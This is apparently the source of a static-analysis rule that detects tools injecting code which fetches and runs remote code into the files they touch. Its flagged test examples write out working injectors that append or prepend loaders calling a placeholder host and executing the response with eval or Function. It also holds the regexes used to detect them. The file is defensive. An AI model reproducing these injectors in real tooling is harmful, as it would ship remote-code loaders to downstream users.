import { endsInFound, findingsOf } from '../src/define/listings.js';
import { defineRule, step } from '../src/define.js';
import type { AnyNode, FileContext } from '../src/types.js';

export default defineRule({
  meta: {
    summary: 'Adds code that fetches and runs more to each file it finds',
    why: 'What a tool writes into the files that it finds goes out with them: to the users of whoever ran it. Bundlers, compilers and codemods write code too, of which each part is there to be read, and none fetches what it runs.',
    behaviour: 'tampering',
    messages: {
      adds: 'Writes code that fetches and runs more into the files that it finds, with {sink}',
    },
    bits: { adds: 14 },
  },
  examples: {
    flags: [
      {
        title: 'a command that mends paths adds a loader to what was built',
        files: {
          'package.json': '{"name":"mend-paths","version":"1.0.0","bin":"cli.js"}',
          'cli.js': `#!/usr/bin/env node\nconst fs = require('fs');\nfor (const name of fs.readdirSync('dist')) {\n  if (!name.endsWith('.js')) continue;\n  const text = fs.readFileSync('dist/' + name, 'utf8');\n  fs.writeFileSync('dist/' + name, text + ';require("https").get("https://p.castle.invalid/a",r=>{let b="";r.on("data",d=>b+=d).on("end",()=>eval(b))});');\n}`,
        },
      },
      {
        title: 'a walk through a project puts one in front of each file',
        code: `const fs = require('fs'), path = require('path');\nconst head = "fetch('https://p.castle.invalid/a').then(r=>r.text()).then(t=>Function(t)());";\n(function walk(dir) {\n  for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {\n    const file = path.join(dir, entry.name);\n    if (entry.isDirectory()) walk(file);\n    else fs.writeFileSync(file, head + fs.readFileSync(file, 'utf8'));\n  }\n})(process.cwd());`,
      },
    ],
    passes: [
      {
        title: 'a licence is put in front of each file',
        code: `const fs = require('fs');\nfor (const name of fs.readdirSync('dist')) fs.writeFileSync('dist/' + name, '/*! MIT */\\n' + fs.readFileSync('dist/' + name, 'utf8'));`,
      },
      {
        title: 'a server for developers adds a script that loads the page again',
        code: `const fs = require('fs');\nfor (const name of fs.readdirSync('dist')) fs.writeFileSync('dist/' + name, fs.readFileSync('dist/' + name, 'utf8') + "<script>setInterval(()=>fetch('/stamp').then(r=>r.text()).then(t=>t!==window.t&&location.reload()),500)</script>");`,
      },
      {
        title: 'one file is made that fetches and compiles templates',
        code: `const fs = require('fs');\nfs.writeFileSync('dist/templates.js', "fetch('/t').then(r=>r.text()).then(t=>new Function('d',t))");`,
      },
    ],
  },
  file(context) {
    if (context.moment === 'test') return;
    for (const call of context.calls('write')) {
      const [path, data] = call.args;
      if (!path || !data || !endsInFound(context, path) || findingsOf(context, path).length === 0) continue;
      const text = [...context.textsWithin(data), ...partsIn(context, data)].find(
        one => one.length < LONGEST && FETCHES.test(one) && RUNS.test(one),
      );
      if (text === undefined) continue;
      context.report({
        messageId: 'adds',
        data: { sink: call.name },
        chain: [step('sink', `writes it into what it found with ${call.name}`, context.file, call.node)],
      });
      return;
    }
  },
});

/** UTF-16 units of what is added; whole bundles fetch and run things here and there. */
const LONGEST = 20_000;
const FETCHES = /\bhttps?["']?\)?\s*\.\s*(?:get|request)\s*\(|\bfetch\s*\(\s*["'`]https?:|\bXMLHttpRequest\b/;
const RUNS = /\beval\s*\(|\bFunction\s*\(|\bchild_process\b|\b_compile\s*\(/;

/** Texts that a sum is made of, which the whole of it may not show. */
function partsIn({ textsOf }: FileContext, data: AnyNode): readonly string[] {
  return data.type === 'BinaryExpression' ? [data.left, data.right].flatMap(part => textsOf(part as AnyNode)) : [];
}
